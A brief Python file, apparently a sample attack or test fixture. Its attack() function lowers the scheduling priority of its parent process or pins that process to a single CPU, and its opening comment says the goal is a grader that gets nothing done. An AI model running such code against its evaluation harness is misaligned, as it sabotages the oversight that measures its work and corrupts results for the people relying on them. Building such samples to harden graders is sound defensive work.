# Makes its parent wait behind everybody else, and keeps it to one processor. Would gain: a grader that gets nothing done.
import os


def attack():
    for slow in (lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 5), lambda: os.sched_setaffinity(os.getppid(), {0})):
        try:
            slow()
            return True
        except OSError as error:
            print("refused:", error)
    return False
